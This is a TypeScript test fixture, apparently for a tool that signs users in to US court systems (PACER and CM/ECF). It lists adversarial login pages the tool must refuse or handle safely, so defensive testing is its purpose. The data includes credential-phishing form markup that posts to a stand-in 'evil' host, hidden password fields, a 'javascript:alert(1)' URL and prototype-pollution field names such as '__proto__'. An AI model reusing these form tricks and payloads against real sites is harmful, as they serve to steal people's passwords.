import type { Attack } from './attack.ts';
import { bent, said } from './attack.ts';

const evil = '%evil%/collect';
const court = '%court%/csologin/login.jsf';
const loginForm = '<input type="hidden" name="loginForm" value="loginForm" />';
const linkButton = "<INPUT TYPE=submit NAME=button1 VALUE='Submit'>";
const clear = "<INPUT TYPE=reset VALUE='Clear'>";
const odd = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'length',
  'twice',
  'twice',
  '',
  'a&#13;&#10;b',
  'a&#34;b',
  'n&#0;l',
];
const loginButton = 'type="submit"><span class="ui-button-text ui-c">Login';

/** Forms that would carry a secret to somebody who does not own it, or in a way that shows it. */
export const forms: readonly Attack[] = [
  {
    attack: 'A sign-on, passcode or link form that posts to another host, or to the other of the two',
    scenarios: [
      'attack-action-sign-on',
      'attack-action-sign-on-court',
      'attack-action-passcode',
      'attack-action-link-form',
      'attack-action-link-form-sign-on',
    ],
    tries: [{ actions: { 'sign-on': 'http://login.practice.localhost:%port%@evil.localhost:%port%/' } }],
    ends: 'unsafe-address',
    says: /nothing was typed into it/,
  },
  {
    attack: 'A button whose `formaction` leads to another host, or a form inside a form that does',
    scenarios: ['attack-form-formaction', 'attack-form-nested', 'attack-review-formaction'],
    tries: [
      {
        buttons: 'plain',
        ...said('sign-on-page', [
          loginButton,
          `type="submit" formaction="${evil}"><span class="ui-button-text ui-c">Login`,
        ]),
      },
    ],
    ends: 'unsafe-address',
  },
  {
    attack: 'A form that would put the password into an address: `method=get`, or a button’s `formmethod`',
    scenarios: ['strange-form-get'],
    tries: [
      said('link-page', [linkButton, "<INPUT TYPE=submit NAME=button1 VALUE='Submit' FORMMETHOD=get>"]),
      said('link-page', [linkButton, "<INPUT TYPE=submit NAME=button1 VALUE='Submit' FORMMETHOD=nonsense>"]),
      {
        buttons: 'plain',
        ...said('sign-on-page', [
          loginButton,
          'type="submit" formmethod="GET"><span class="ui-button-text ui-c">Login',
        ]),
      },
    ],
    ends: 'unsafe-address',
    says: /\(method GET\); nothing was typed into it/,
  },
  {
    attack: 'A button that only closes a dialog (`formmethod=dialog`)',
    tries: [
      said('link-page', [linkButton, "<INPUT TYPE=submit NAME=button1 VALUE='Submit' FORMMETHOD=dialog>"]),
    ],
    ends: 'unsafe-address',
  },
  {
    attack: 'A hidden `encodedURL` that sends a PrimeFaces form to the court or to another host',
    tries: [evil, court, 'http://court@evil.localhost:%port%/', 'javascript:alert(1)'].map((to) =>
      said('sign-on-page', [
        loginForm,
        `${loginForm}<input type="hidden" name="javax.faces.encodedURL" value="${to}">`,
      ]),
    ),
    ends: 'unsafe-address',
  },
  {
    attack:
      'A form that asks for another encoding than the page’s, in which a password would read differently',
    tries: [
      said('link-page', [
        "ENCTYPE='multipart/form-data'",
        "ENCTYPE='multipart/form-data' ACCEPT-CHARSET='utf-16 utf-7'",
      ]),
    ],
    ends: 'linked',
    safe: 'sent as a browser would, to the court',
  },
  {
    attack: 'A page that asks for both passwords, or for the password of the other host',
    scenarios: ['strange-form-extra-password', 'attack-sign-on-at-court', 'attack-link-form-at-sign-on'],
    tries: [
      said('link-page', ['CM/ECF password:', 'PACER password:']),
      said('link-page', ['CM/ECF login:', 'PACER username:'], ['CM/ECF password:', 'PACER password:']),
      said('link-page', [clear, `${clear}<P>One-time passcode: <INPUT TYPE=text NAME=otp>`]),
    ],
    ends: 'unrecognised-page',
  },
  {
    attack: 'A sign-on page that asks for the CM/ECF password as well, or asks for it instead',
    tries: [
      said('sign-on-page', [
        '</tbody>',
        '<tr><td>CM/ECF password</td><td><input type="password" name="key"></td></tr></tbody>',
      ]),
    ],
    ends: 'unrecognised-page',
  },
  {
    attack: 'Password fields that cannot be seen, empty or filled already',
    tries: [
      said('link-page', [
        clear,
        `${clear}<INPUT TYPE=password NAME=pw2 READONLY VALUE=guess STYLE='display:none'><INPUT TYPE=hidden NAME=pw3 VALUE=''><DIV HIDDEN><INPUT TYPE=password NAME=pacer_password AUTOCOMPLETE=current-password></DIV>`,
      ]),
      said('sign-on-page', [
        loginForm,
        `${loginForm}<input type="text" name="cc" autocomplete="cc-number" style="display:none">`,
      ]),
    ],
    ends: 'linked',
    safe: 'nothing is put into a field that does not show; it goes as the page filled it',
  },
  {
    attack: 'Two link forms',
    scenarios: ['strange-form-two-forms'],
    tries: [
      said('link-page', [
        '</FORM>',
        "</FORM><FORM method=POST action='/cgi-bin/x.pl'>CM/ECF login: <INPUT NAME=a> CM/ECF password: <INPUT TYPE=password NAME=b><INPUT TYPE=submit VALUE=Submit></FORM>",
      ]),
    ],
    ends: 'unrecognised-page',
  },
  {
    attack: 'A second link form that cannot be seen',
    tries: [
      said('link-page', [
        '</FORM>',
        `</FORM><DIV STYLE='display:none'><FORM method=POST action='${evil}'>CM/ECF login: <INPUT NAME=a> CM/ECF password: <INPUT TYPE=password NAME=b><INPUT TYPE=submit VALUE=Submit></FORM></DIV>`,
      ]),
    ],
    ends: 'linked',
    safe: 'the form that shows is the one',
  },
  {
    attack: 'A button of the link form that belongs to another form (`form=`), or a field that does',
    tries: [
      said(
        'link-page',
        ['</FORM>', `</FORM><FORM ID=other method=POST action='${evil}'></FORM>`],
        [linkButton, "<INPUT TYPE=submit FORM=other NAME=button1 VALUE='Submit'>"],
      ),
      said(
        'link-page',
        ['</FORM>', `</FORM><FORM ID=other method=POST action='${evil}'></FORM>`],
        ['<INPUT TYPE=password NAME=key', '<INPUT TYPE=password FORM=other NAME=key'],
      ),
    ],
    ends: 'unrecognised-page',
  },
  {
    attack:
      'Fields named `__proto__`, `constructor`, `toString`, `length`, twice, not at all, or with a line break or NUL',
    tries: [
      said('link-page', [
        clear,
        `${clear}${odd.map((name) => `<INPUT TYPE=hidden NAME="${name}" VALUE=v>`).join('')}`,
      ]),
    ],
    carries:
      /"__proto__","v".*"constructor","v".*"hasOwnProperty","v".*"length","v".*"twice","v".*"twice","v".*"a\\r\\nb","v".*"a\\"b","v".*"n\ufffdl","v"/,
    ends: 'linked',
    safe: 'they are names like any other, sent in their order as a browser sends them',
  },
  {
    attack: 'The same as names of forms, ids, cookies, headers, query names and hidden fields of the sign-on',
    tries: [
      bent('utilities', {
        headers: { ['__proto__']: 'x', constructor: 'x', 'to-string': 'x' },
        cookies: ['__proto__=1', 'constructor=2', 'toString=3'],
        replace: [
          ['<H2>', '<FORM ID=__proto__ NAME=constructor><INPUT ID=toString NAME=hasOwnProperty></FORM><H2>'],
          [
            "HREF='/cgi-bin/LinkAccount.pl'",
            "HREF='/cgi-bin/LinkAccount.pl?__proto__=1&constructor=2&=3&a%00b'",
          ],
        ],
      }),
      said('sign-on-page', [
        loginForm,
        `${loginForm}<input type="hidden" name="__proto__" value="x"><input type="hidden" id="constructor" name="toString">`,
      ]),
    ],
    ends: 'linked',
    safe: 'they are names like any other',
  },
];
